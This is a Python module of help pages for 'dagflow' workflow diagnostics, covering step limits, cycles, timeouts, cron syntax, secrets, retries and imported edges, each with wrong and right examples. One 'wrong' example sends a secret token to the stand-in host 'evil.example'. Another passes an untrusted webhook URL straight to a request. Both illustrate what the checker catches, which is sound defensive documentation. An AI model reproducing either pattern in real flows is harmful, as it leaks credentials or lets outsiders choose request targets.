"""Pages about bounds, safety and tidiness: codes 5xx, 6xx, 9xx, and the note about omitted diagnostics."""

from __future__ import annotations

from typing import Final

PAGES: Final = r"""
# E501 an expression can cost too much
An expression may take at most 10,000 steps, and this one needs more, because the costs of nested loops
multiply. The limit prevents one flow from delaying all others. Visit fewer elements, or compute the
value in an action. A value may have at most 4 MiB as JSON. A part that `cel.bind` names counts each
time it is read; this code also reports an expression that certainly exceeds that limit.
--- wrong
flow show {
  let sums = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(a,
    [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(b,
      [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(c,
        [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(d, a + b + c + d))))
  log(message: "${sums.size()}")
}
--- right
flow show {
  let sums = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(a,
    [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11].map(b, a + b))
  log(message: "${sums.size()}")
}

# E502 flows call each other in a cycle
A flow must not call or `start` itself, directly or indirectly, because it might never end. Calls may be
nested up to eight levels. To continue later, `emit` an event that starts another run. To repeat a
step, use `for`.
--- wrong
flow remind(to: Email) {
  email(template: "reminder", to: to)
  wait 1w
  remind(to: to)
}
--- right
flow remind(to: Email) {
  email(template: "reminder", to: to)
  wait 1w
  second = email(template: "reminder", to: to)
}

# E503 a flow is too large
A flow may have at most 1,000 steps and conditions and 5,000 edges; the host application may set other
limits. Two wide `parallel` blocks in a row have as many edges as the product of their widths, so put a
single step between them. Otherwise split the flow, and let one flow emit an event that starts the next.
The host application may also limit a run. The message then names the loop or call that adds most, with
a `max` that fits. `dagflow check --bounds` prints the upper bounds of a run.

# E504 a limit is missing
A `wait event` must have a `within`, because the event may never arrive. Add an `else` to handle the
timeout; without it, the flow continues, and the payload may be absent. A `for` must have a `max`; a
longer list fails the loop before it starts. A `debounce` must have a `max`, because no run begins as
long as requests come.
--- wrong
event "ops/incident.acked" { id: string, by: string }

flow incident(id: string) {
  ack = wait event "ops/incident.acked" as a when a.id == id
  log(message: ack.?by ?? "nobody")
}
--- right
event "ops/incident.acked" { id: string, by: string }

flow incident(id: string) {
  ack = wait event "ops/incident.acked" as a when a.id == id within 1d
  log(message: ack.?by ?? "nobody")
}

# E505 an invalid schedule
A cron schedule has five fields: minute, hour, day of the month, month, day of the week. Each is
`*`, a number, a range `9-17`, a list `1,15`, or every so many of a range, `*/10` or `9-17/2`;
months and days of the week have names too, `JAN` and `MON`. There are no seconds, and a schedule
must fire at some time. The time zone is a name such as `Europe/Paris`; the default is `UTC`.
--- wrong
flow digest {
  on cron "0 25 * * MON"
  slack(channel: "C1", text: "a new week")
}
--- right
flow digest {
  on cron "0 9 * * MON" in "Europe/Paris"
  slack(channel: "C1", text: "a new week")
}

# E601 a secret would leave the system
A flow holds only a handle of a secret, `secrets.NAME`, and may pass it only to a parameter of type
`Secret<string>`. A flow cannot insert a secret into a text, compare it or log it, so secrets never
appear in a history or message. Pass it to an action that takes one.
--- wrong
flow call(url: Url) {
  log(message: "token ${secrets.token}")
}
--- right
flow call(url: Url) {
  http.request(url: url, token: secrets.token)
}

# E602 a secret may not go there
The host application binds a secret to servers and actions. dagflow sends it to no other server, and
only over https unless the binding allows http. It checks a computed address during the call, which
then fails with the code `secret_refused`. The operator can bind the secret to more servers.
--- wrong
flow call {
  http.request(url: "https://evil.example/", token: secrets.crm_token)
}
--- right
flow call {
  http.request(url: "https://api.crm.example/", token: secrets.crm_token)
}

# E603 a flow may not emit this event
The host application reserves some events, so that a flow cannot claim, for example, that a payment was
approved. Emit an allowed event, or ask the operator to allow this one.
--- wrong
event "pay/approved" { order: string }

flow approve(order: string) {
  emit "pay/approved" (order: order)
}
--- right
event "order/checked" { order: string }

flow approve(order: string) {
  emit "order/checked" (order: order)
}

# W701 unfinished runs reference a removed step
`dagflow check --store PATH` compares a file with the unfinished runs. dagflow identifies a step by its
name, so a renamed step looks like a new one. If a new step matches the old one, the message names it;
write `was old` after it. Unfinished runs continue with the flow that they started with in any case.

# N101 further findings are not shown
dagflow shows the first 200 findings and counts the rest, because many of them tend to have one cause.
Fix the first ones and check again.

# N601 an imported edge prunes here
workflow-kit skips an action whose edge is not followed, but still runs the actions after it. In
dagflow, pruning propagates to all steps that depend on a pruned one. The note names each edge where
this makes a difference. If that is not intended, add an edge that bypasses the condition.
--- wrong
{
  "actions": [
    {"id": "c", "kind": "builtin:if", "inputs": {"condition": {">": ["!ref($.event.n)", 1]}}},
    {"id": "a", "kind": "log", "inputs": {"message": "many"}},
    {"id": "b", "kind": "log", "inputs": {"message": "sent"}}
  ],
  "edges": [
    {"from": "$source", "to": "c"},
    {"from": "c", "to": "a", "conditional": {"type": "if", "ref": "!ref($.output.result)"}},
    {"from": "a", "to": "b"}
  ]
}
--- right
{
  "actions": [
    {"id": "c", "kind": "builtin:if", "inputs": {"condition": {">": ["!ref($.event.n)", 1]}}},
    {"id": "a", "kind": "log", "inputs": {"message": "many"}},
    {"id": "b", "kind": "log", "inputs": {"message": "sent"}}
  ],
  "edges": [
    {"from": "$source", "to": "c"},
    {"from": "c", "to": "a", "conditional": {"type": "if", "ref": "!ref($.output.result)"}},
    {"from": "c", "to": "b"}
  ]
}

# N602 an imported action waits here
workflow-kit runs an action after the first of its edges, possibly before its other predecessors.
dagflow waits until all of them have settled, and runs the action if one of the edges is followed. The
note names each action where this makes a difference. If that is not intended, remove the other edges.
--- wrong
{
  "actions": [
    {"id": "a", "kind": "log", "inputs": {"message": "one"}},
    {"id": "b", "kind": "log", "inputs": {"message": "two"}},
    {"id": "c", "kind": "log", "inputs": {"message": "both"}}
  ],
  "edges": [
    {"from": "$source", "to": "a"},
    {"from": "$source", "to": "b"},
    {"from": "a", "to": "c"},
    {"from": "b", "to": "c"}
  ]
}
--- right
{
  "actions": [
    {"id": "a", "kind": "log", "inputs": {"message": "one"}},
    {"id": "b", "kind": "log", "inputs": {"message": "two"}},
    {"id": "c", "kind": "log", "inputs": {"message": "both"}}
  ],
  "edges": [
    {"from": "$source", "to": "a"},
    {"from": "$source", "to": "b"},
    {"from": "a", "to": "c"}
  ]
}

# W501 a retry may repeat an effect
An attempt may have taken effect even though its answer was lost. If the action is `effectful` and takes
no effect key, a retry may repeat the effect, such as a message or a charge. Let the action take the
key, or declare it `idempotent` if a repetition is harmless. Alternatively, write `on unknown fail` at
the step: then only failures that the action reports are retried, and attempts interrupted by a crash
or time limit are not. `retry 0` opts a step out of the flow's `retry`.
--- wrong
action pay.charge(order: string) effectful

flow charge(order: string) {
  pay.charge(order: order)
    retry 5 from 1s to 1m
}
--- right
action pay.charge(order: string) idempotent

flow charge(order: string) {
  pay.charge(order: order)
    retry 5 from 1s to 1m
}

# W502 the run times out before this ends
The `timeout` of a flow limits the duration of a run, including waits; the default is 30 days. The run
then fails with the code `run_timeout`. This wait or limit ends after that, so the steps after it, and
its `else`, never run. Raise the `timeout` of the flow, or write a shorter duration. The check counts
only certain time, which is the waits before this step and, for the `else` of a `wait event`, its `within`.
--- wrong
flow remind(to: Email) {
  wait 30d
  email(template: "reminder", to: to)
}
--- right
flow remind(to: Email) {
  timeout 31d
  wait 30d
  email(template: "reminder", to: to)
}

# W602 untrusted text becomes an address
The payload of a webhook is untrusted. If a text in it becomes an address, the sender chooses the
recipient of a mail, or the server of a request. Compare the text with a list of addresses or a prefix
or suffix first, or give it an enum type.
--- wrong
flow subscribe {
  on webhook "subscriptions" as body: {callback: Url}
  http.request(url: body.callback)
}
--- right
flow subscribe {
  on webhook "subscriptions" as body: {callback: Url}
  filter body.callback.startsWith("https://hooks.example.com/")
  http.request(url: body.callback)
}

# W901 something is never used
Nothing reads this `let`. Often its name is misspelt elsewhere, or its user was removed. Use it, or
remove it.
--- wrong
flow greet {
  let discount = 0.1
  log(message: "hello")
}
--- right
flow greet {
  let discount = 0.1
  log(message: "a discount of ${discount}")
}
"""
